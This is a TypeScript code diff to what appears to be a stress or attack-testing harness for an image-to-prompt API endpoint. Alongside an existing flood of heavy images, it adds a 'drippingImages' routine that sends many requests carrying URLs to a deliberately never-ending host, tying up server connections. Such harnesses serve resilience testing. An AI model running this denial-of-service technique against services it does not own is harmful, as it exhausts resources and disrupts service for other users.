@@ -12,7 +12,7 @@ export async function heavyImages(target: AttackTarget): Promise<AttackReport> {
     Buffer.from(JSON.stringify({ image_base64: image.toString('base64'), mime_type: sniffType(image) })),
   )
   return callRepeatedly(target, {
-    path: '/api/v1/prompts/image-to-prompt',
+    pathOf: () => '/api/v1/prompts/image-to-prompt',
     callers,
     bodyOf: (number) => bodies[number % bodies.length] ?? '',
   })
@@ -37,4 +37,15 @@ function makeHeavyImages(): Promise<Buffer[]> {
 function sniffType(image: Buffer): string {
   if (image[0] === 0xff) return 'image/jpeg'
   return image[0] === 0x89 ? 'image/png' : 'image/avif'
+}
+
+const urlCallers = 28
+
+/** Addresses of a host that never comes to an end: each holds a place until its time is over. */
+export function drippingImages(target: AttackTarget): Promise<AttackReport> {
+  return callRepeatedly(target, {
+    pathOf: () => '/api/v1/prompts/image-to-prompt',
+    callers: urlCallers,
+    bodyOf: (number) => JSON.stringify({ image_url: `${target.drippingUrl}/${number}.jpg` }),
+  })
 }
